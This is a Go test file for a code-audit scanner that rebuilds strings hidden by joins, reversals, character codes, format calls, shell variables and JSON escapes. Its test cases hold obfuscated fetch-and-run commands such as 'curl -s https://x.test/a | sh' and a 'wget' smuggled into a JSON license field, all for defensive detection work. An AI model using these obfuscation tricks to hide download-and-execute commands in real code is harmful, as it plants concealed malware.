package audit

import (
	"slices"
	"testing"
)

func TestRebuiltStrings(t *testing.T) {
	tests := []struct {
		name, text, want string
	}{
		{"joined list", `print(''.join(['cu', 'rl -s', ' https://x.test/a', ' | sh']))`, `print(curl -s https://x.test/a | sh)`},
		{"js join", `const c = ["wg","et ","-q ","u"].join("");`, `const c = wget -q u;`},
		{"joined variable", "parts = ['a', 'b', 'c']\nprint(''.join(parts))", `print(abc)`},
		{"concatenation", `os.system('cu' + 'rl ' + 'x')`, `os.system(curl x)`},
		{"reversed slice", `os.system('hs | lruc'[::-1])`, `os.system(curl | sh)`},
		{"every other", `print('cxuxrxlx'[::2])`, `print(curl)`},
		{"split reverse join", `x('hs'.split('').reverse().join(''))`, `x(sh)`},
		{"rev pipe", `echo 'hs | lruc' | rev | sh`, `echo 'curl | sh' | sh`},
		{"chr sum", `os.system(chr(108)+chr(115)+chr(32)+chr(47))`, `os.system(ls /)`},
		{"char codes", `eval(String.fromCharCode(99,117,114,108))`, `eval(curl)`},
		{"zip", "a = 'cr'\nb = 'ul'\nprint(''.join(x + y for x, y in zip(a, b)))", `print(''.join(x + y for x, y in curl))`},
		{"format", `os.system('{}{} x'.format('cu', 'rl'))`, `os.system(curl x)`},
		{"shell variables", "a=cu; b=rl\n$a$b -s x | sh", `curl -s x | sh`},
		{"printf parts", `bash -c "$(printf '%s' 'cu' 'rl x')"`, `bash -c "$(curl x)"`},
		{"json escapes", `{"license": "MIT \u0026\u0026 wget x"}`, `{"license": "MIT && wget x"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, b := range rebuiltStrings([]byte(tt.text)) {
				got = append(got, string(b.data))
			}
			if !slices.Contains(got, tt.want) {
				t.Errorf("rebuilt %q; want %q among them", got, tt.want)
			}
		})
	}
}

func TestRebuiltStringsLeaveOrdinaryCode(t *testing.T) {
	for _, text := range []string{
		`msg = "Hello, " + name + "!"`,
		`" ".join(["git", "commit", "-m", msg])`,
		`echo "$HOME/bin:$PATH"`,
		`items[::-1]`,
		`{"url": "https://example.com/?a=1\u003cb"}`,
	} {
		if got := rebuiltStrings([]byte(text)); len(got) != 0 {
			t.Errorf("%q: rebuilt %q", text, got[0].data)
		}
	}
}

func FuzzRebuiltStrings(f *testing.F) {
	for _, s := range []string{`''.join(['a','b','c'])`, `'ab'[::-1]`, `'a'+'b'+'c'`, "a=1; b=2\n$a$b", `chr(97)+chr(98)`, `'x'[-3::2]`, `{"a": "\u0026"}`, `printf '%s' 'a' 'b'`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		for _, b := range rebuiltStrings(text) {
			if b.start < 0 || b.end > len(text) || b.start > b.end {
				t.Fatalf("range %d:%d outside %d bytes", b.start, b.end, len(text))
			}
		}
	})
}
